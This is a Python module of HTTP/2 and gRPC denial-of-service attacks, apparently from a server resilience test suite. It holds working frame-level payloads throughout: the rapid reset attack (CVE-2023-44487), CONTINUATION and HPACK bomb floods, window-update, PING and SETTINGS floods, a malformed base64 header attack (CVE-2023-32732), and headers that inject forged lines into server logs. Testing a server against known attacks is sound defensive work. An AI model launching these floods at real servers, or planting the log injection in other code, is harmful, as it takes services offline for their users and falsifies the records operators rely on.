"""Frames without end."""

import struct

from attack import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HELLO, MIB, PING, PREFACE, RST_STREAM, SERVICE,
    WINDOW_UPDATE, Frames, Windows, field, frame, hpack_length, message_prefix, open_call, request_block, settings)


def window_updates_past_2_gib(attack):
    attack.flood(HELLO + open_call("Accumulate"), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 80_000)


def unknown_frames_past_2_gib(attack):
    """Frames of an unknown type, which every peer has to ignore, each with a byte of data that allows it."""
    send_in_bytes(attack, frame(0x77, 0, 0, bytes(200)))


def goaway_flood(attack):
    attack.flood(HELLO, frame(GOAWAY, 0, 0, bytes(8)) * 60_000)


def empty_data_past_2_gib(attack):
    attack.flood(HELLO + open_call("Accumulate"), frame(DATA, 0, 1) * 100_000)


def continuation_without_end(attack):
    tiny = field(b"a", b"b") * 3000
    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute")),
                 frame(CONTINUATION, 0, 1, tiny[:16000]) * 60)


def headers_over_many_frames(attack):
    """8 MB of headers in frames that are each within the limit; then the call."""
    large = frame(CONTINUATION, 0, 1, field(b"x-pad", b"p" * 15000)) * 540
    call = (HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Describe")) + large +
            frame(CONTINUATION, END_HEADERS, 1) + frame(DATA, END_STREAM, 1, message_prefix(0)))

    def attempt():
        with attack.open() as connection:
            connection.sendall(call)
            connection.recv(1 << 16)
    attack.again(attempt)


def hpack_length_without_end(attack):
    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute") + b"\x00\x7f"),
                 frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 4, at_once=2)


def hpack_string_too_long(attack):
    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute") + b"\x00\x01a" +
                               hpack_length((1 << 31) - 1)),
                 frame(CONTINUATION, 0, 1, b"v" * 16000) * 4, at_once=2)


def streams_without_acknowledgement(attack):
    """Never acknowledges SETTINGS, so never learns how many streams it may open."""
    block = request_block(SERVICE + "Accumulate")

    def attempt():
        with attack.open(HELLO) as connection:
            stream = 1
            while attack.goes_on() and stream < 1 << 30:
                connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) for i in range(100)))
                stream += 200
    attack.again(attempt)


def rapid_reset(attack):
    """CVE-2023-44487: calls begun and cancelled as fast as they can be written."""
    block = request_block(SERVICE + "Compute")

    def attempt():
        with attack.connection(HELLO) as connection:
            stream = 1
            while attack.goes_on() and stream < 1 << 30:
                connection.sendall(b"".join(
                    frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
                    for s in range(stream, stream + 400, 2)))
                stream += 400
    attack.again(attempt)


def forged_log_lines(attack):
    """A header whose value is a line of the log, as gRPC logs what it cannot parse."""
    block = b"".join(field(*pair) for pair in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", SERVICE.encode() + b"Compute"),
        (b"te", b'x\n{"time":"2026-01-01T00:00:00.000000Z","level":"error","event":"forged"}\n')))
    attack.flood(HELLO, b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 100, 2)))


def ping_flood(attack):
    attack.flood(HELLO, frame(PING, 0, 0, bytes(8)) * 4000)


def settings_flood(attack):
    attack.flood(HELLO, settings(window=65535) * 4000)


def garbage(attack):
    attack.garbage(PREFACE, attack.address)


def hpack_bomb(attack):
    """One large field in the dynamic table, and a byte for each further copy of it."""
    value = b"v" * 3900
    entry = b"\x40" + hpack_length(1) + b"a" + hpack_length(len(value)) + value
    attack.flood(HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Compute") + entry),
                 frame(CONTINUATION, 0, 1, b"\xbe" * 16000) * 20)


def one_byte_data_frames(attack):
    send_in_bytes(attack)


def send_in_bytes(attack, between=b""):
    """A message of 15 MiB in frames of one byte, as fast as the window is opened, each with a frame after it."""
    size, at_once = 15 * MIB, 20_000
    piece = frame(DATA, 0, 1, b"x") + between
    pieces = memoryview(piece * at_once)

    def attempt():
        with attack.connection(HELLO + open_call("Compute") + frame(DATA, 0, 1, message_prefix(size))) as connection:
            windows, sent = Windows(), 0
            windows.take(1, 5)
            while attack.goes_on() and sent < size - 1:
                count = min(windows.left(1), at_once, size - 1 - sent)
                connection.sendall(pieces[:count * len(piece)])
                windows.take(1, count)
                sent += count
                windows.read(connection, 0.0 if count else 1.0)
    attack.again(attempt)


def bad_base64_headers(attack):
    """CVE-2023-32732: such a call ended its connection, and with it what a proxy sends over it for others.

    The value is written out, or comes from the table of headers. The last call has a good one by the name
    that the table has, and is answered.
    """
    newest = 62
    blocks = [request_block(SERVICE + "Compute", extra) for extra in (
        field(b"x-bin", b"!"), b"\x40" + field(b"x-bin", b"!")[1:], bytes([0x80 | newest]))]
    last, good = 151, request_block(SERVICE + "Compute", bytes([0x0f, newest - 15, 4]) + b"AAAA")

    def attempt():
        with attack.connection(HELLO) as connection:
            connection.sendall(b"".join(
                frame(HEADERS, END_HEADERS, stream, blocks[stream // 2 % 3]) for stream in range(1, last, 2)))
            connection.sendall(frame(HEADERS, END_HEADERS, last, good) +
                               frame(DATA, END_STREAM, last, message_prefix(0)))
            connection.settimeout(5)
            frames, answered = Frames(), False
            while not answered:
                try:
                    frames.read(connection)
                except TimeoutError:
                    raise ConnectionResetError from None
                answered = any(kind == DATA and stream == last for kind, _, stream, _ in frames)
    attack.again(attempt)


FLOODS = (
    window_updates_past_2_gib, unknown_frames_past_2_gib, empty_data_past_2_gib,
    continuation_without_end, headers_over_many_frames,
    hpack_length_without_end, hpack_string_too_long, hpack_bomb, streams_without_acknowledgement,
    one_byte_data_frames, rapid_reset, ping_flood, settings_flood, goaway_flood, bad_base64_headers,
    forged_log_lines, garbage)
